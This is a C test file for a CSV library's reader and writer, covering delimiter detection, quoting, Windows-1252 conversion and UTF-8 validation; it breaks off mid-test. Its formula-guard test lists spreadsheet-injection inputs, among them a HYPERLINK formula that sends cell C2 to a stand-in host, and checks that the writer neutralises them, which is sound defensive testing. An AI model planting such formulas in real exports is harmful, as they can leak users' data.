/* test_csv.c - CSV reader and writer, Windows-1252 conversion, UTF-8 checks. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/csv.h"
#include "core/util.h"

/* A reader over a string literal, which may hold NUL bytes. */
#define OPEN_LIT(lit) csv_open_mem((lit), sizeof(lit) - 1)

/* Reads the next record, which must exist and start on line `line` with the n
 * fields given. */
static void expect_row(struct csv_reader *r, size_t line, size_t n, ...)
{
	struct csv_row row;
	struct err e;
	err_clear(&e);
	int rc = csv_next(r, &row, &e);
	if (rc != 1)
		fail_msg("expected a record on line %zu, got %d (%s)", line, rc, e.msg);
	assert_int_equal(row.line, line);
	assert_int_equal(row.nfields, n);
	va_list ap;
	va_start(ap, n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(row.fields[i], va_arg(ap, const char *));
	va_end(ap);
}

/* Reads the next record, which must be rejected with exactly the message msg. */
static void expect_error(struct csv_reader *r, const char *msg)
{
	struct csv_row row;
	struct err e;
	err_clear(&e);
	assert_int_equal(csv_next(r, &row, &e), -1);
	assert_string_equal(e.msg, msg);
	assert_int_equal(e.code, 1);
	assert_null(row.fields);
	assert_int_equal(row.nfields, 0);
}

static void expect_end(struct csv_reader *r)
{
	struct csv_row row;
	struct err e;
	err_clear(&e);
	assert_int_equal(csv_next(r, &row, &e), 0);
	assert_int_equal(row.nfields, 0);
	assert_int_equal(csv_next(r, &row, &e), 0); /* and stays there */
	assert_string_equal(e.msg, "");
}

static void test_comma_delimiter(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("nama,nik,alamat\nToko Maju,1871,Jl. Kartini\n");
	assert_int_equal(csv_delimiter(r), ',');
	assert_string_equal(csv_encoding(r), "UTF-8");
	expect_row(r, 1, 3, "nama", "nik", "alamat");
	expect_row(r, 2, 3, "Toko Maju", "1871", "Jl. Kartini");
	expect_end(r);
	csv_close(r);
}

static void test_semicolon_delimiter(void **state)
{
	(void)state;
	/* Excel in an Indonesian locale writes semicolons and decimal commas. */
	struct csv_reader *r = OPEN_LIT("nama;omzet;kota\nToko Maju;1.500,50;Metro\n");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 1, 3, "nama", "omzet", "kota");
	expect_row(r, 2, 3, "Toko Maju", "1.500,50", "Metro");
	expect_end(r);
	csv_close(r);

	/* More semicolons than commas in the first record. */
	r = OPEN_LIT("a;b;c,d\n");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 1, 3, "a", "b", "c,d");
	csv_close(r);
}

static void test_delimiter_tie_and_quotes(void **state)
{
	(void)state;
	/* A tie goes to the comma. */
	struct csv_reader *r = OPEN_LIT("a;b,c\n");
	assert_int_equal(csv_delimiter(r), ',');
	expect_row(r, 1, 2, "a;b", "c");
	csv_close(r);

	/* Semicolons inside quotes do not count. */
	r = OPEN_LIT("\"a;b;c\",d\n");
	assert_int_equal(csv_delimiter(r), ',');
	expect_row(r, 1, 2, "a;b;c", "d");
	csv_close(r);

	/* Nor do commas inside quotes, even across lines; later records do not count. */
	r = OPEN_LIT("\"x,\ny,z\";b\nc,d,e,f\n");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 1, 2, "x,\ny,z", "b");
	expect_row(r, 3, 1, "c,d,e,f");
	csv_close(r);

	/* Detection starts at the first record, after blank lines and a BOM. */
	r = OPEN_LIT("\xEF\xBB\xBF\n\na;b\n");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 3, 2, "a", "b");
	csv_close(r);

	/* No delimiter at all, and no input at all. */
	r = OPEN_LIT("nama\n");
	assert_int_equal(csv_delimiter(r), ',');
	csv_close(r);
	r = csv_open_mem(NULL, 0);
	assert_int_equal(csv_delimiter(r), ',');
	assert_string_equal(csv_encoding(r), "UTF-8");
	expect_end(r);
	csv_close(r);
}

static void test_bom(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("\xEF\xBB\xBFnama,kota\nKopi Gayo,Metro\n");
	assert_string_equal(csv_encoding(r), "UTF-8");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_string_equal(row.fields[0], "nama");
	assert_int_equal(row.raw_len, 9);
	assert_memory_equal(row.raw, "nama,kota", 9);
	expect_row(r, 2, 2, "Kopi Gayo", "Metro");
	csv_close(r);

	r = OPEN_LIT("\xEF\xBB\xBF");
	expect_end(r);
	csv_close(r);
}

static void test_line_ends(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("a,b\r\nc,d\r\n");
	expect_row(r, 1, 2, "a", "b");
	expect_row(r, 2, 2, "c", "d");
	expect_end(r);
	csv_close(r);

	r = OPEN_LIT("a,b\rc,d\re,f");
	expect_row(r, 1, 2, "a", "b");
	expect_row(r, 2, 2, "c", "d");
	expect_row(r, 3, 2, "e", "f");
	expect_end(r);
	csv_close(r);

	/* Mixed, no line end after the last record. */
	r = OPEN_LIT("a\nb\r\nc\rd");
	expect_row(r, 1, 1, "a");
	expect_row(r, 2, 1, "b");
	expect_row(r, 3, 1, "c");
	expect_row(r, 4, 1, "d");
	expect_end(r);
	csv_close(r);
}

static void test_blank_lines(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("\n\na,b\n\r\n \t\nc,d\n\n  ");
	expect_row(r, 3, 2, "a", "b");
	expect_row(r, 6, 2, "c", "d");
	expect_end(r);
	csv_close(r);

	/* A line of delimiters is a record of empty fields, not a blank line. */
	r = OPEN_LIT(",\n");
	expect_row(r, 1, 2, "", "");
	expect_end(r);
	csv_close(r);
}

static void test_empty_fields(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("a,b,\n,x,\"\"\n");
	expect_row(r, 1, 3, "a", "b", "");
	expect_row(r, 2, 3, "", "x", "");
	expect_end(r);
	csv_close(r);

	r = OPEN_LIT("a,b,");
	expect_row(r, 1, 3, "a", "b", "");
	expect_end(r);
	csv_close(r);
}

static void test_quoted_fields(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT(
		"\"Jl. Sudirman, No. 5\",Metro\n"
		"\"Toko \"\"Maju\"\" Jaya\",\"\"\"\"\n"
		"\"a\"  ,\"b\"\t\n"
		"5\" pipe,Toko \"Maju\", \"c\"\n");
	expect_row(r, 1, 2, "Jl. Sudirman, No. 5", "Metro");
	expect_row(r, 2, 2, "Toko \"Maju\" Jaya", "\"");
	/* Spaces after a closing quote are ignored. */
	expect_row(r, 3, 2, "a", "b");
	/* A quote that does not open a field is an ordinary character. */
	expect_row(r, 4, 3, "5\" pipe", "Toko \"Maju\"", " \"c\"");
	expect_end(r);
	csv_close(r);

	r = OPEN_LIT("\"a;b\";\"c\"\"d\";e\n");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 1, 3, "a;b", "c\"d", "e");
	csv_close(r);
}

static void test_embedded_newlines(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT(
		"nama,alamat,kota\n"
		"Toko A,\"Jl. Kartini 1\nRT 02\nRW 03\",Metro\n"
		"Toko B,\"Blok C\r\nNo. 4\",Pringsewu\r\n"
		"Toko C,\"x\ry\",Metro\n"
		"\n"
		"Toko D,Jl. Raden Intan,Kalianda\n");
	expect_row(r, 1, 3, "nama", "alamat", "kota");
	expect_row(r, 2, 3, "Toko A", "Jl. Kartini 1\nRT 02\nRW 03", "Metro");

	/* CRLF and a lone CR inside quotes become "\n"; raw keeps the bytes. */
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_int_equal(row.line, 5);
	assert_string_equal(row.fields[1], "Blok C\nNo. 4");
	const char raw[] = "Toko B,\"Blok C\r\nNo. 4\",Pringsewu";
	assert_int_equal(row.raw_len, sizeof(raw) - 1);
	assert_memory_equal(row.raw, raw, sizeof(raw) - 1);

	expect_row(r, 7, 3, "Toko C", "x\ny", "Metro");
	expect_row(r, 10, 3, "Toko D", "Jl. Raden Intan", "Kalianda");
	expect_end(r);
	csv_close(r);
}

static void test_raw(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("a,\"b,c\"\r\n\r\n  x ,y\n");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_int_equal(row.raw_len, 7);
	assert_memory_equal(row.raw, "a,\"b,c\"", 7);
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_int_equal(row.line, 3);
	assert_string_equal(row.fields[0], "  x ");
	assert_int_equal(row.raw_len, 6);
	assert_memory_equal(row.raw, "  x ,y", 6);
	csv_close(r);
}

static void test_unclosed_quote(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT(
		"nama,kota\n"
		"Toko A,\"Metro\n"
		"Toko B,Kalianda\n"
		"Toko C,Liwa\n");
	expect_row(r, 1, 2, "nama", "kota");
	struct csv_row row;
	struct err e;
	err_clear(&e);
	assert_int_equal(csv_next(r, &row, &e), -1);
	assert_string_equal(e.msg, "line 2: quote opened here is never closed");
	assert_int_equal(row.line, 2);
	assert_int_equal(row.raw_len, 13);
	assert_memory_equal(row.raw, "Toko A,\"Metro", 13);
	/* Reading goes on with the next line. */
	expect_row(r, 3, 2, "Toko B", "Kalianda");
	expect_row(r, 4, 2, "Toko C", "Liwa");
	expect_end(r);
	csv_close(r);

	/* The line is the quote's, not the record's; recovery after that line. */
	r = OPEN_LIT("a,\"x\ny\",\"open\nb,c\n");
	expect_error(r, "line 2: quote opened here is never closed");
	expect_row(r, 3, 2, "b", "c");
	expect_end(r);
	csv_close(r);

	/* At the very end. */
	r = OPEN_LIT("a,b\n\"");
	expect_row(r, 1, 2, "a", "b");
	expect_error(r, "line 2: quote opened here is never closed");
	expect_end(r);
	csv_close(r);
}

static void test_text_after_closing_quote(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("\"Toko \"Maju\" Jaya\",x\ny,z\n");
	expect_error(r, "line 1: text after a closing quote "
			"(a quote inside a quoted field is written as \"\")");
	expect_row(r, 2, 2, "y", "z");
	expect_end(r);
	csv_close(r);

	/* A quote left open swallows lines until the next quote: say both lines. */
	r = OPEN_LIT("a,\"Metro\nb,c\n\"d\",e\nf,g\n");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), -1);
	assert_string_equal(e.msg,
		"line 3: text after the closing quote of the field opened on line 1");
	assert_int_equal(row.line, 1);
	const char raw[] = "a,\"Metro\nb,c\n\"d\",e";
	assert_int_equal(row.raw_len, sizeof(raw) - 1);
	assert_memory_equal(row.raw, raw, sizeof(raw) - 1);
	expect_row(r, 4, 2, "f", "g");
	expect_end(r);
	csv_close(r);
}

static void test_nul_byte(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT("a,b\nc\0d,e\n\"f\0\",g\nh,i\n\"j\"\0\nk");
	expect_row(r, 1, 2, "a", "b");
	expect_error(r, "line 2: NUL byte in the text (is this really a CSV file?)");
	expect_error(r, "line 3: NUL byte in the text (is this really a CSV file?)");
	expect_row(r, 4, 2, "h", "i");
	expect_error(r, "line 5: NUL byte in the text (is this really a CSV file?)");
	expect_row(r, 6, 1, "k");
	expect_end(r);
	csv_close(r);
}

static void test_cp1252_input(void **state)
{
	(void)state;
	struct csv_reader *r = OPEN_LIT(
		"nama,catatan,harga\r\n"
		"Caf\xe9 Ayu,\"\x93quoted\x94\",\x80 5\r\n"
		"\x8a\x9f\x85\x99,\x96\x97\x91\x92,\x81\x8d\x8f\x90\x9d\r\n"
		"\xa0\xe0\xff,x,y\r\n");
	assert_string_equal(csv_encoding(r), "Windows-1252");
	assert_int_equal(csv_delimiter(r), ',');
	expect_row(r, 1, 3, "nama", "catatan", "harga");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_string_equal(row.fields[0], "Caf\xc3\xa9 Ayu");                   /* Café */
	assert_string_equal(row.fields[1], "\xe2\x80\x9cquoted\xe2\x80\x9d");    /* “quoted” */
	assert_string_equal(row.fields[2], "\xe2\x82\xac 5");                    /* € 5 */
	/* raw is the converted text too. */
	const char raw[] = "Caf\xc3\xa9 Ayu,\"\xe2\x80\x9cquoted\xe2\x80\x9d\",\xe2\x82\xac 5";
	assert_int_equal(row.raw_len, sizeof(raw) - 1);
	assert_memory_equal(row.raw, raw, sizeof(raw) - 1);
	/* Š Ÿ … ™ , – — ‘ ’ , five undefined bytes as U+FFFD */
	expect_row(r, 3, 3, "\xc5\xa0\xc5\xb8\xe2\x80\xa6\xe2\x84\xa2",
		   "\xe2\x80\x93\xe2\x80\x94\xe2\x80\x98\xe2\x80\x99",
		   "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	expect_row(r, 4, 3, "\xc2\xa0\xc3\xa0\xc3\xbf", "x", "y");
	expect_end(r);
	csv_close(r);

	/* The encoding is what most of the input is: one stray byte among UTF-8
	 * rejects its record (naming the line of the byte), the others are read
	 * as UTF-8 ("Café" stays "Café"). */
	r = OPEN_LIT("\xc3\xa9,a\n\"b\nx\",\xe9\nCaf\xc3\xa9,c\n");
	assert_string_equal(csv_encoding(r), "UTF-8");
	expect_row(r, 1, 2, "\xc3\xa9", "a");
	expect_error(r, "line 3: bytes that are not UTF-8 (most of the file is UTF-8; save it "
		     "as UTF-8 and import this row again)");
	expect_row(r, 4, 2, "Caf\xc3\xa9", "c");
	expect_end(r);
	csv_close(r);
	/* More stray bytes than UTF-8 characters: Windows-1252, the whole input,
	 * even the characters that were valid UTF-8 on their own. */
	r = OPEN_LIT("\xc3\xa9,a\nb,\xe9\nc,\xe8\n");
	assert_string_equal(csv_encoding(r), "Windows-1252");
	expect_row(r, 1, 2, "\xc3\x83\xc2\xa9", "a");
	expect_row(r, 2, 2, "b", "\xc3\xa9");
	expect_row(r, 3, 2, "c", "\xc3\xa8");
	csv_close(r);

	/* A BOM followed by non-UTF-8: the BOM is dropped, the rest converted. */
	r = OPEN_LIT("\xEF\xBB\xBFnama;kota\nCaf\xe9;Metro\n");
	assert_string_equal(csv_encoding(r), "Windows-1252");
	assert_int_equal(csv_delimiter(r), ';');
	expect_row(r, 1, 2, "nama", "kota");
	expect_row(r, 2, 2, "Caf\xc3\xa9", "Metro");
	csv_close(r);

	/* Valid UTF-8 stays as it is. */
	r = OPEN_LIT("Caf\xc3\xa9,\xe2\x82\xac\n");
	assert_string_equal(csv_encoding(r), "UTF-8");
	expect_row(r, 1, 2, "Caf\xc3\xa9", "\xe2\x82\xac");
	csv_close(r);
}

static void test_cp1252_table(void **state)
{
	(void)state;
	/* Every byte 0x80..0x9F against the code points Windows-1252 gives them. */
	static const unsigned expect[32] = {
		0x20AC, 0xFFFD, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
		0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0xFFFD, 0x017D, 0xFFFD,
		0xFFFD, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
		0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0xFFFD, 0x017E, 0x0178,
	};
	for (unsigned b = 0x80; b <= 0xFF; b++) {
		char in = (char)b;
		struct strbuf sb = STRBUF_INIT;
		cp1252_to_utf8(&sb, &in, 1);
		unsigned cp = b < 0xA0 ? expect[b - 0x80] : b;
		const unsigned char *u = (const unsigned char *)sb.buf;
		unsigned got;
		if (cp < 0x800) {
			assert_int_equal(sb.len, 2);
			got = ((u[0] & 0x1Fu) << 6) | (u[1] & 0x3Fu);
		} else {
			assert_int_equal(sb.len, 3);
			got = ((u[0] & 0x0Fu) << 12) | ((u[1] & 0x3Fu) << 6) | (u[2] & 0x3Fu);
		}
		if (got != cp)
			fail_msg("byte 0x%02X: U+%04X, expected U+%04X", b, got, cp);
		assert_true(utf8_valid(sb.buf, sb.len));
		strbuf_release(&sb);
	}
	/* ASCII passes through, NUL included; output is appended. */
	struct strbuf sb = STRBUF_INIT;
	strbuf_adds(&sb, ">");
	cp1252_to_utf8(&sb, "a\0b\x80", 4);
	assert_int_equal(sb.len, 7);
	assert_memory_equal(sb.buf, ">a\0b\xe2\x82\xac", 7);
	cp1252_to_utf8(&sb, NULL, 0);
	assert_int_equal(sb.len, 7);
	strbuf_release(&sb);

	/* A long input (ASCII runs, every byte value, chunk boundaries) converts
	 * the same as byte by byte, and the reader gets the same text. */
	char in[5000];
	for (size_t i = 0; i < sizeof(in); i++)
		in[i] = (char)(i % 7 ? 'a' + i % 26 : 0x80 + (i / 7) % 128);
	struct strbuf whole = STRBUF_INIT, bytes = STRBUF_INIT;
	cp1252_to_utf8(&whole, in, sizeof(in));
	for (size_t i = 0; i < sizeof(in); i++)
		cp1252_to_utf8(&bytes, in + i, 1);
	assert_int_equal(whole.len, bytes.len);
	assert_memory_equal(whole.buf, bytes.buf, whole.len);
	struct csv_reader *r = csv_open_mem(in, sizeof(in));
	assert_string_equal(csv_encoding(r), "Windows-1252");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_int_equal(row.raw_len, whole.len); /* no delimiter, quote or line end */
	assert_memory_equal(row.raw, whole.buf, whole.len);
	csv_close(r);
	strbuf_release(&whole);
	strbuf_release(&bytes);
}

#define VALID(lit) assert_true(utf8_valid((lit), sizeof(lit) - 1))
#define INVALID(lit) assert_false(utf8_valid((lit), sizeof(lit) - 1))

static void test_utf8_valid(void **state)
{
	(void)state;
	assert_true(utf8_valid(NULL, 0));
	VALID("");
	VALID("plain ASCII, with a NUL\0 inside");
	VALID("\xc2\x80");                 /* U+0080, smallest 2-byte */
	VALID("\xdf\xbf");                 /* U+07FF */
	VALID("\xe0\xa0\x80");             /* U+0800, smallest 3-byte */
	VALID("\xed\x9f\xbf");             /* U+D7FF, just below the surrogates */
	VALID("\xee\x80\x80");             /* U+E000, just above */
	VALID("\xef\xbf\xbd");             /* U+FFFD */
	VALID("\xef\xbb\xbf");             /* BOM */
	VALID("\xf0\x90\x80\x80");         /* U+10000, smallest 4-byte */
	VALID("\xf4\x8f\xbf\xbf");         /* U+10FFFF, the largest */
	VALID("Rp\xc2\xa0" "2.000 \xe2\x82\xac \xf0\x9f\x99\x82");

	INVALID("\xc0\x80");               /* overlong NUL */
	INVALID("\xc1\xbf");               /* overlong U+007F */
	INVALID("\xe0\x80\x80");           /* overlong 3-byte */
	INVALID("\xe0\x9f\xbf");           /* overlong U+07FF */
	INVALID("\xf0\x80\x80\x80");       /* overlong 4-byte */
	INVALID("\xf0\x8f\xbf\xbf");       /* overlong U+FFFF */
	INVALID("\xed\xa0\x80");           /* U+D800 */
	INVALID("\xed\xbf\xbf");           /* U+DFFF */
	INVALID("\xed\xa0\xbd\xed\xb8\x82"); /* a CESU-8 surrogate pair */
	INVALID("\xf4\x90\x80\x80");       /* U+110000 */
	INVALID("\xf5\x80\x80\x80");
	INVALID("\xf8\x88\x80\x80\x80");   /* old 5-byte form */
	INVALID("\xfe");
	INVALID("\xff");
	INVALID("\x80");                   /* lone continuation */
	INVALID("a\xbf");
	INVALID("\xc3");                   /* truncated at the end */
	INVALID("\xe2\x82");
	INVALID("\xf0\x9f\x99");
	INVALID("\xc3" "a");               /* continuation missing */
	INVALID("\xe2\x82" "a");
	INVALID("\xe2" "a\xac");
	INVALID("\xf0\x9f\x99" "a");
	INVALID("Caf\xe9");

	/* The 8-byte ASCII fast path must not skip a bad byte at any offset. */
	for (size_t at = 0; at < 24; at++) {
		char buf[24];
		memset(buf, 'a', sizeof(buf));
		buf[at] = (char)0xe9;
		assert_false(utf8_valid(buf, sizeof(buf)));
		assert_true(utf8_valid(buf, at));
		if (at + 2 <= sizeof(buf)) {
			buf[at] = (char)0xc3;
			buf[at + 1] = (char)0xa9;
			assert_true(utf8_valid(buf, sizeof(buf)));
			assert_false(utf8_valid(buf, at + 1)); /* cut after the lead byte */
		}
	}
}

static void test_write_field(void **state)
{
	(void)state;
	static const struct {
		const char *in, *comma, *semi;
	} cases[] = {
		{ "plain", "plain", "plain" },
		{ "", "", "" },
		{ "a,b", "\"a,b\"", "a,b" },
		{ "a;b", "a;b", "\"a;b\"" },
		{ "Toko \"Maju\"", "\"Toko \"\"Maju\"\"\"", "\"Toko \"\"Maju\"\"\"" },
		{ "\"", "\"\"\"\"", "\"\"\"\"" },
		{ "a\nb", "\"a\nb\"", "\"a\nb\"" },
		{ "a\rb", "\"a\rb\"", "\"a\rb\"" },
		{ " lead", "\" lead\"", "\" lead\"" },
		{ "trail ", "\"trail \"", "\"trail \"" },
		{ "\ttab", "\"'\ttab\"", "\"'\ttab\"" },
		{ "in side", "in side", "in side" },
		{ "Caf\xc3\xa9", "Caf\xc3\xa9", "Caf\xc3\xa9" },
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct strbuf sb = STRBUF_INIT;
		csv_write_field(&sb, cases[i].in, ',');
		assert_string_equal(strbuf_str(&sb), cases[i].comma);
		strbuf_reset(&sb);
		csv_write_field(&sb, cases[i].in, ';');
		assert_string_equal(strbuf_str(&sb), cases[i].semi);
		strbuf_release(&sb);
	}
	struct strbuf sb = STRBUF_INIT;
	csv_write_field(&sb, NULL, ',');
	assert_string_equal(strbuf_str(&sb), "");
	strbuf_release(&sb);
}

/* Text a spreadsheet would run as a formula gets an apostrophe in front; the
 * reader takes exactly that apostrophe off again. */
static void test_formula_guard(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ "=1+1", "'=1+1" },
		{ "@SUM(1+1)", "'@SUM(1+1)" },
		{ "=HYPERLINK(\"http://x/?\"&C2,\"klik\")",
		  "\"'=HYPERLINK(\"\"http://x/?\"\"&C2,\"\"klik\"\")\"" },
		{ "+1+cmd", "'+1+cmd" },
		{ "-2+3", "'-2+3" },
		{ "-A1", "'-A1" },
		{ "\t=1", "\"'\t=1\"" },
		{ "\r=1", "\"'\r=1\"" },
		{ "\n=1", "\"'\n=1\"" },
		{ "'=1", "''=1" },            /* an apostrophe of its own survives */
		{ "''@x", "'''@x" },
		{ "+6281234567890", "+6281234567890" },  /* a phone */
		{ "-5", "-5" },
		{ "-1.234,50", "\"-1.234,50\"" },
		{ "+", "+" },
		{ "-", "-" },
		{ "'-5", "'-5" },
		{ "'plain", "'plain" },
		{ "a=b", "a=b" },
		{ " =x", "\" =x\"" },
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct strbuf sb = STRBUF_INIT;
		const char *row[] = { cases[i].in, "x" };
		csv_write_field(&sb, cases[i].in, ',');
		if (!str_eq(strbuf_str(&sb), cases[i].out))
			fail_msg("case %zu: wrote [%s], expected [%s]", i, strbuf_str(&sb), cases[i].out);
		strbuf_reset(&sb);
		csv_write_row(&sb, row, 2, ',');
		struct csv_reader *r = csv_open_mem(sb.buf, sb.len);
		struct csv_row got;
		struct err e;
		assert_int_equal(csv_next(r, &got, &e), 1);
		assert_int_equal(got.nfields, 2);
		/* A quoted CR is read as LF (as ever). */
		assert_string_equal(got.fields[0], *cases[i].in == '\r' ? "\n=1" : cases[i].in);
		csv_close(r);
		strbuf_release(&sb);
	}
	/* A hand-made file: an apostrophe before a formula is taken off, any other
	 * apostrophe stays. */
	struct csv_reader *r = OPEN_LIT("'=1,'x,'+62812,''=2,\"'@a\"\n");
	expect_row(r, 1, 5, "=1", "'x", "'+62812", "'=2", "@a");
	csv_close(r);
}

static void test_write_row(void **state)
{
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	const char *row1[] = { "a", "b,c", "" };
	csv_write_row(&sb, row1, 3, ',');
	const char *row2[] = { "x;y", NULL };
	csv_write_row(&sb, row2, 2, ';');
	const char *row3[] = { "" };
	csv_write_row(&sb, row3, 1, ',');
	assert_string_equal(strbuf_str(&sb), "a,\"b,c\",\n\"x;y\";\n\"\"\n");
	strbuf_release(&sb);
}

/* Writes rows of awkward fields, reads them back, and compares. */
static void round_trip(char delim)
{
	static const char *const rows[][4] = {
		{ "nama", "alamat", "catatan", "omzet" },
		{ "Toko \"Maju\" Jaya", "Jl. Sudirman, No. 5; Blok C", "", "1.500,50" },
		{ "multi\nline\nfield", "\"", "\"\"", " spaces " },
		{ "", "", "", "" },
		{ "Caf\xc3\xa9 \xe2\x82\xac", "a\"b,c;d\ne", ",", ";" },
		{ "\"quoted start", "end\"", "  ", "x" },
	};
	struct strbuf sb = STRBUF_INIT;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		csv_write_row(&sb, rows[i], 4, delim);
	const char *lone[] = { "" };
	csv_write_row(&sb, lone, 1, delim);

	struct csv_reader *r = csv_open_mem(sb.buf, sb.len);
	assert_int_equal(csv_delimiter(r), delim);
	assert_string_equal(csv_encoding(r), "UTF-8");
	struct csv_row row;
	struct err e;
	size_t line = 1;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		assert_int_equal(csv_next(r, &row, &e), 1);
		assert_int_equal(row.line, line);
		assert_int_equal(row.nfields, 4);
		for (size_t f = 0; f < 4; f++) {
			assert_string_equal(row.fields[f], rows[i][f]);
			for (const char *c = rows[i][f]; *c; c++)
				line += *c == '\n';
		}
		line++;
	}
	assert_int_equal(csv_next(r, &row, &e), 1);
	assert_int_equal(row.nfields, 1);
	assert_string_equal(row.fields[0], "");
	assert_int_equal(csv_next(r, &row, &e), 0);
	csv_close(r);
	strbuf_release(&sb);
}

static void test_round_trip(void **state)
{
	(void)state;
	round_trip(',');
	round_trip(';');
}

static void test_many_rows(void **state)
{
	(void)state;
	/* Enough rows to grow every buffer, with a wide record in the middle. */
	struct strbuf sb = STRBUF_INIT;
	strbuf_adds(&sb, "id,nama,alamat\n");
	for (int i = 0; i < 20000; i++) {
		if (i == 10000) {
			for (int f = 0; f < 100; f++)
				strbuf_addf(&sb, "%s\"f%d\"", f ? "," : "", f);
			strbuf_addch(&sb, '\n');
			continue;
		}
		strbuf_addf(&sb, "%d,Toko %d,\"Jl. %d, Metro\"\n", i, i, i);
	}
	struct csv_reader *r = csv_open_mem(sb.buf, sb.len);
	strbuf_release(&sb); /* the reader has its own copy */
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), 1);
	for (int i = 0; i < 20000; i++) {
		assert_int_equal(csv_next(r, &row, &e), 1);
		assert_int_equal(row.line, (size_t)i + 2);
		if (i == 10000) {
			assert_int_equal(row.nfields, 100);
			assert_string_equal(row.fields[99], "f99");
			continue;
		}
		assert_int_equal(row.nfields, 3);
		char want[64];
		snprintf(want, sizeof(want), "Jl. %d, Metro", i);
		assert_string_equal(row.fields[2], want);
	}
	assert_int_equal(csv_next(r, &row, &e), 0);
	csv_close(r);
}

static void test_open_file(void **state)
{
	(void)state;
	char path[] = "/tmp/bantu-test-csv-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	const char data[] = "\xEF\xBB\xBFnama;kota\r\nCaf\xc3\xa9;\"Bandar\r\nLampung\"\r\n";
	assert_int_equal(write(fd, data, sizeof(data) - 1), (ssize_t)(sizeof(data) - 1));
	close(fd);

	struct err e;
	err_clear(&e);
	struct csv_reader *r = csv_open_file(path, &e);
	unlink(path);
	assert_non_null(r);
	assert_int_equal(csv_delimiter(r), ';');
	assert_string_equal(csv_encoding(r), "UTF-8");
	expect_row(r, 1, 2, "nama", "kota");
	expect_row(r, 2, 2, "Caf\xc3\xa9", "Bandar\nLampung");
	expect_end(r);
	csv_close(r);

	/* Missing: NULL, and the message names the file. */
	err_clear(&e);
	assert_null(csv_open_file(path, &e));
	char want[256];
	snprintf(want, sizeof(want), "%s: No such file or directory", path);
	assert_string_equal(e.msg, want);
	assert_int_equal(e.code, 1);
	assert_null(csv_open_file(path, NULL));
	csv_close(NULL);
}

/* Writes data to a temporary file and opens it with csv_open_file. */
static struct csv_reader *open_as_file(const char *data, size_t len)
{
	char path[] = "/tmp/bantu-test-csv-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, data, len), (ssize_t)len);
	close(fd);
	struct err e;
	struct csv_reader *r = csv_open_file(path, &e);
	unlink(path);
	assert_non_null(r);
	return r;
}

/* A file read by chunks gives what the same bytes in memory give, whatever
 * falls on a chunk boundary (a CR of a CRLF, a doubled quote, a UTF-8
 * character, a record longer than a chunk). */
static void test_file_chunks(void **state)
{
	(void)state;
	static const char *const pieces[] = {
		"a,b\r\n", "\"q\"\"uote\",x\r\n", "\"multi\r\nline\",\"\"\n", "Caf\xc3\xa9,\xe2\x82\xac\r",
		"\n", "   \n", "'=1,\"'@x\"\n", "\"bad\"x,y\n", "p;q,r\r\n", "\xe9,stray\n",
	};
	for (int shift = 0; shift < 24; shift++) {
		struct strbuf sb = STRBUF_INIT;
		strbuf_adds(&sb, "h1,h2\n");
		for (int i = 0; i < shift; i++)
			strbuf_addch(&sb, 'x');
		strbuf_addch(&sb, '\n');
		for (size_t i = 0; sb.len < 200 * 1024; i++) {
			strbuf_adds(&sb, pieces[(i * 7 + (size_t)shift) % ARRAY_SIZE(pieces)]);
			if (i == 2000) { /* one record longer than a chunk */
				for (int f = 0; f < 2; f++) {
					strbuf_adds(&sb, "\"");
					for (int k = 0; k < 40000; k++)
						strbuf_addch(&sb, k % 100 ? 'z' : '\n');
					strbuf_adds(&sb, "\",");
				}
				strbuf_adds(&sb, "end\n");
			}
		}
		struct csv_reader *m = csv_open_mem(sb.buf, sb.len);
		struct csv_reader *f = open_as_file(sb.buf, sb.len);
		assert_string_equal(csv_encoding(m), "UTF-8");
		assert_string_equal(csv_encoding(f), csv_encoding(m));
		assert_int_equal(csv_delimiter(f), csv_delimiter(m));
		size_t n = 0;
		for (;;) {
			struct csv_row a, b;
			struct err ea, eb;
			err_clear(&ea);
